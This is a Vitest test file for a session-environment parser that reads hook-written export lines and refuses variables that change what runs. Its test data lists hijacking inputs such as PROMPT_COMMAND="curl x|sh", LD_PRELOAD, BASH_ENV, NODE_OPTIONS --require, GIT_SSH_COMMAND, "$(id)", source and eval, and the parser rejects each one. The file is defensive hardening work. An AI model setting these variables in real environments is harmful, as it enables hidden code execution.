import { describe, expect, it } from 'vitest';
import { readSessionEnv } from '../../src/contract/session-env.js';

describe("CLAUDE_ENV_FILE's export lines", () => {
  it('reads export lines, bare, single- and double-quoted values; a later line wins', () => {
    const r = readSessionEnv(
      [
        'export NODE_ENV=production',
        "export GREETING='hello world'",
        'export QUOTED="a \\"b\\" \\$c"',
        '# a comment',
        '',
        'PLAIN=1',
        'export NODE_ENV=test',
      ].join('\n'),
    );
    expect({ ...r.env }).toEqual({
      NODE_ENV: 'test',
      GREETING: 'hello world',
      QUOTED: 'a "b" $c',
      PLAIN: '1',
    });
    expect(r.ignored).toEqual([]);
    expect(Object.getPrototypeOf(r.env)).toBe(null);
  });

  it('lists lines that do not parse and refuses loader variables', () => {
    const r = readSessionEnv(
      [
        'export OK=1',
        'echo hi',
        'export BAD NAME=1',
        "export OPEN='x",
        'export LD_PRELOAD=/tmp/x.so',
        'export SPACED=a b',
      ].join('\n'),
    );
    expect({ ...r.env }).toEqual({ OK: '1' });
    expect(r.ignored).toEqual([
      'CLAUDE_ENV_FILE:2',
      'CLAUDE_ENV_FILE:3',
      'CLAUDE_ENV_FILE:4',
      'sessionEnv.LD_PRELOAD',
      'CLAUDE_ENV_FILE:6',
    ]);
  });

  it('keeps a __proto__ name an ordinary key', () => {
    const r = readSessionEnv('export __proto__=x');
    expect(Object.getPrototypeOf(r.env)).toBe(null);
    expect(Object.getOwnPropertyDescriptor(r.env, '__proto__')?.value).toBe('x');
  });
});

describe('the session-env rule (nothing a hook writes changes later host-side commands without the policy)', () => {
  const project = { scope: 'project', sandboxed: false } as const;
  const policy = { scope: 'policy', sandboxed: false } as const;
  const sandboxedPolicy = { scope: 'policy', sandboxed: true } as const;
  const lines = [
    'export BASH_ENV=/repo/.x',
    'export ENV=/repo/.x',
    'export PROMPT_COMMAND="curl x|sh"',
    'export NODE_OPTIONS=--require=/repo/x.js',
    'export PYTHONSTARTUP=/repo/x.py',
    'export PYTHONPATH=/repo',
    'export PERL5OPT=-Mx',
    'export RUBYOPT=-rx',
    'export JAVA_TOOL_OPTIONS=-javaagent:/repo/x.jar',
    'export GIT_SSH_COMMAND=/repo/x',
    'export GIT_CONFIG_KEY_0=core.fsmonitor',
    'export LD_PRELOAD=/repo/x.so',
    'export PATH=/repo/.tools:/usr/bin',
    'export PATH="$PATH:/opt/x/bin"',
    'export FOO="$(id)"',
    'source /repo/.env',
    'eval "$(direnv export bash)"',
    'export GREETING=hi',
  ].join('\n');

  it('refuses, by name or line, every variable that changes what runs, expansions, source and eval', () => {
    const r = readSessionEnv(lines, project);
    expect({ ...r.env }).toEqual({ GREETING: 'hi' });
    expect(r.ignored).toEqual([
      'sessionEnv.BASH_ENV',
      'sessionEnv.ENV',
      'sessionEnv.PROMPT_COMMAND',
      'sessionEnv.NODE_OPTIONS',
      'sessionEnv.PYTHONSTARTUP',
      'sessionEnv.PYTHONPATH',
      'sessionEnv.PERL5OPT',
      'sessionEnv.RUBYOPT',
      'sessionEnv.JAVA_TOOL_OPTIONS',
      'sessionEnv.GIT_SSH_COMMAND',
      'sessionEnv.GIT_CONFIG_KEY_0',
      'sessionEnv.LD_PRELOAD',
      'sessionEnv.PATH',
      'CLAUDE_ENV_FILE:14',
      'CLAUDE_ENV_FILE:15',
      'CLAUDE_ENV_FILE:16',
      'CLAUDE_ENV_FILE:17',
    ]);
  });

  it('PATH only from a policy hook that is not sandboxed; a value with $PATH is never made a literal', () => {
    expect(readSessionEnv('export PATH=/opt/x/bin:/usr/bin', policy).env.PATH).toBe('/opt/x/bin:/usr/bin');
    expect(readSessionEnv('export PATH=/opt/x/bin', sandboxedPolicy).ignored).toEqual(['sessionEnv.PATH']);
    expect(readSessionEnv('export PATH="$PATH:/opt/x/bin"', policy).ignored).toEqual(['CLAUDE_ENV_FILE:1']);
    expect(readSessionEnv("export X='$PATH stays literal'", project).env.X).toBe('$PATH stays literal');
  });
});
